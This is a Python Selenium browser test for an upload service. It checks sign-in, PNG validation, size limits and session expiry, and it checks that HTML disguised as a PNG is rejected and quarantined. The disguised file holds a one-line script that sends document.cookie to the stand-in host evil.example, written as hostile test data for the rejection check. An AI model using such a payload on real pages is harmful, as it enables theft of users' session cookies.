"""The upload page in a real browser: headless Chromium (Debian's chromium and chromium-driver), driven by Selenium,
against `upload-edge serve` with everything it starts.

    upload_page_test.py --upload-edge .build/debug/upload-edge [--screenshot PATH]

1. sign in as the dev user that serve prints;
2. upload a valid PNG and see it become validated;
3. upload HTML renamed .png and see it rejected, and quarantined in S3;
4. choose a file over the limit and see it refused before any upload, with the message shown;
5. let the session expire and be sent back to sign-in.

Then Ctrl-C (SIGINT) to serve, which must stop everything it started. Exits non-zero on the first failure, with
the page's text and a screenshot for the failing step.
"""

import argparse
import os
import re
import signal
import struct
import subprocess
import sys
import tempfile
import time
import zlib

import boto3
import botocore.config
from selenium import webdriver
from selenium.common.exceptions import TimeoutException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions as ec
from selenium.webdriver.support.ui import WebDriverWait

MAX_BYTES = 65536
PORT = 8093


def step(text):
    print(f"==> {text}", flush=True)


def png_bytes(width=16, height=16):
    """A real PNG: signature, IHDR, one IDAT of grey pixels, IEND."""

    def chunk(kind, data):
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body) & 0xFFFFFFFF)

    rows = b"".join(b"\x00" + b"\x80" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


class Failure(Exception):
    pass


def start_serve(binary):
    step("starting upload-edge serve (it installs what is missing on first use)")
    serve = subprocess.Popen(
        [binary, "serve", "--port", str(PORT), "--max-bytes", str(MAX_BYTES)],
        stdout=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    details = {}
    deadline = time.time() + 900
    while time.time() < deadline:
        line = serve.stdout.readline()
        if not line:
            raise Failure(f"upload-edge serve exited with {serve.wait()} before it was ready")
        if match := re.match(r"\s+(http://127\.0\.0\.1:\d+/)\s*$", line):
            details["url"] = match.group(1)
        elif match := re.match(r"Sign in as:\s+(\S+)", line):
            details["username"] = match.group(1)
        elif match := re.match(r"Password:\s+(\S+)", line):
            details["password"] = match.group(1)
        elif line.startswith("Press Ctrl-C"):
            return serve, details
    raise Failure("upload-edge serve was not ready within 15 minutes")


SERVICE_PATTERN = "localstack.runtime.main|moto_server|/bootstrap$"


def processes():
    output = subprocess.run(["pgrep", "-f", SERVICE_PATTERN], capture_output=True, text=True).stdout
    return set(output.split())


def stop_serve(serve, before):
    step("stopping upload-edge serve with Ctrl-C (SIGINT)")
    os.kill(serve.pid, signal.SIGINT)
    try:
        status = serve.wait(timeout=120)
    except subprocess.TimeoutExpired:
        os.killpg(serve.pid, signal.SIGKILL)
        raise Failure("upload-edge serve did not stop within 2 minutes of SIGINT")
    if status != 0:
        raise Failure(f"upload-edge serve exited with {status} after SIGINT")
    # Nothing it started is left behind: no LocalStack, no moto, no bootstrap (services that were already running,
    # make test's, are serve's to use and not to stop).
    time.sleep(1)
    leftovers = processes() - before
    if leftovers:
        listing = subprocess.run(["ps", "-o", "pid,args", "-p", ",".join(leftovers)], capture_output=True, text=True)
        raise Failure(f"processes left behind after serve stopped:\n{listing.stdout}")


def browser():
    options = webdriver.ChromeOptions()
    options.binary_location = "/usr/bin/chromium"
    for argument in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1100,1000"):
        options.add_argument(argument)
    return webdriver.Chrome(service=Service("/usr/bin/chromedriver"), options=options)


def row_for(driver, name):
    rows = driver.find_elements(By.CSS_SELECTOR, "#file-list li.file")
    for row in rows:
        if row.find_element(By.CSS_SELECTOR, ".file-name").text == name:
            return row
    return None


def wait_for_state(driver, name, states, seconds=60):
    def reached(driver):
        row = row_for(driver, name)
        return row if row is not None and row.get_attribute("data-state") in states else False

    try:
        return WebDriverWait(driver, seconds).until(reached)
    except TimeoutException:
        row = row_for(driver, name)
        seen = row.get_attribute("data-state") + ": " + row.text if row else "no row"
        raise Failure(f"{name} did not reach {states} within {seconds} s; it shows {seen!r}")


def choose_and_upload(driver, path):
    driver.find_element(By.ID, "files").send_keys(path)
    driver.find_element(By.ID, "upload-button").click()


def run(binary, screenshot):
    workdir = tempfile.mkdtemp(prefix="ue-browser-")
    good = os.path.join(workdir, "holiday.png")
    evil = os.path.join(workdir, "cat.png")
    large = os.path.join(workdir, "poster.png")
    with open(good, "wb") as f:
        f.write(png_bytes())
    with open(evil, "wb") as f:
        f.write(b"<!doctype html><html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>")
    with open(large, "wb") as f:
        f.write(png_bytes() + b"\x00" * (MAX_BYTES + 1))

    before = processes()
    serve, details = start_serve(binary)
    driver = None
    try:
        driver = browser()
        wait = WebDriverWait(driver, 30)

        step("1. signing in")
        driver.get(details["url"])
        wait.until(ec.visibility_of_element_located((By.ID, "username")))
        driver.find_element(By.ID, "username").send_keys(details["username"])
        driver.find_element(By.ID, "password").send_keys(details["password"])
        driver.find_element(By.ID, "sign-in-button").click()
        wait.until(ec.visibility_of_element_located((By.ID, "upload-section")))
        limits = driver.find_element(By.ID, "limits").text
        if "64.0 KB" not in limits:
            raise Failure(f"the page does not show the advertised limit: {limits!r}")

        step("2. a valid PNG becomes validated")
        choose_and_upload(driver, good)
        row = wait_for_state(driver, "holiday.png", {"validated"})
        if int(row.find_element(By.TAG_NAME, "progress").get_attribute("value")) != 100:
            raise Failure("the progress bar of a finished upload is not full")

        step("3. HTML renamed .png is rejected and quarantined")
        choose_and_upload(driver, evil)
        row = wait_for_state(driver, "cat.png", {"rejected"})
        if "markup or script" not in row.text:
            raise Failure(f"the rejection does not say why: {row.text!r}")
        s3 = boto3.client(
            "s3",
            endpoint_url="http://127.0.0.1:4566",
            region_name="eu-west-1",
            aws_access_key_id="test",
            aws_secret_access_key="test",
            config=botocore.config.Config(s3={"addressing_style": "path"}),
        )
        keys = [item["Key"] for item in s3.list_objects_v2(Bucket="upload-edge-local").get("Contents", [])]
        if not any(key.startswith("quarantine/") and key.endswith("/cat.png") for key in keys):
            raise Failure(f"cat.png is not in quarantine/: {keys}")
        if any(key.startswith("uploads/") and key.endswith("/cat.png") for key in keys):
            raise Failure(f"cat.png is still under uploads/: {keys}")

        step("4. a file over the limit is refused before any upload")
        choose_and_upload(driver, large)
        row = wait_for_state(driver, "poster.png", {"refused"}, seconds=10)
        if "Too large" not in row.text or "64.0 KB" not in row.text:
            raise Failure(f"the refusal does not say what to fix: {row.text!r}")
        keys = [item["Key"] for item in s3.list_objects_v2(Bucket="upload-edge-local").get("Contents", [])]
        if any(key.endswith("/poster.png") for key in keys):
            raise Failure("the refused file reached S3")

        if screenshot:
            driver.save_screenshot(screenshot)
            step(f"screenshot: {screenshot}")

        step("5. an expired session sends you back to sign-in")
        expired = driver.execute_script(
            """
            const b64 = (o) => btoa(JSON.stringify(o)).replace(/=+$/, '').replace(/\\+/g, '-').replace(/\\//g, '_');
            const token = sessionStorage.getItem('uploadedge.idToken');
            const claims = JSON.parse(atob(token.split('.')[1].replace(/-/g, '+').replace(/_/g, '/')));
            claims.exp = Math.floor(Date.now() / 1000) - 60;
            sessionStorage.setItem('uploadedge.idToken', token.split('.')[0] + '.' + b64(claims) + '.' + token.split('.')[2]);
            return claims.exp;
            """
        )
        if not expired:
            raise Failure("could not age the session token")
        choose_and_upload(driver, good)
        wait.until(ec.visibility_of_element_located((By.ID, "sign-in-section")))
        notice = driver.find_element(By.ID, "notice").text
        if "session has expired" not in notice:
            raise Failure(f"the sign-in page does not say the session expired: {notice!r}")
        # The API refuses an expired token too, whatever the page thinks.
        status = driver.execute_script(
            "const r = await fetch('/api/uploads', {headers: {Authorization: 'Bearer ' + arguments[0]}});"
            " return r.status;",
            "eyJhbGciOiJSUzI1NiJ9.eyJleHAiOjF9.c2ln",
        )
        if status != 401:
            raise Failure(f"the API answered {status}, not 401, to a bad token")
        step("all five steps passed")
    except Exception:
        if driver is not None:
            path = os.path.join(workdir, "failure.png")
            driver.save_screenshot(path)
            print(f"page text at failure:\n{driver.find_element(By.TAG_NAME, 'body').text}\nscreenshot: {path}")
        raise
    finally:
        if driver is not None:
            driver.quit()
        stop_serve(serve, before)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--upload-edge", required=True)
    parser.add_argument("--screenshot")
    args = parser.parse_args()
    try:
        run(os.path.abspath(args.upload_edge), args.screenshot)
    except Failure as failure:
        print(f"FAILED: {failure}", file=sys.stderr)
        sys.exit(1)


if __name__ == "__main__":
    main()
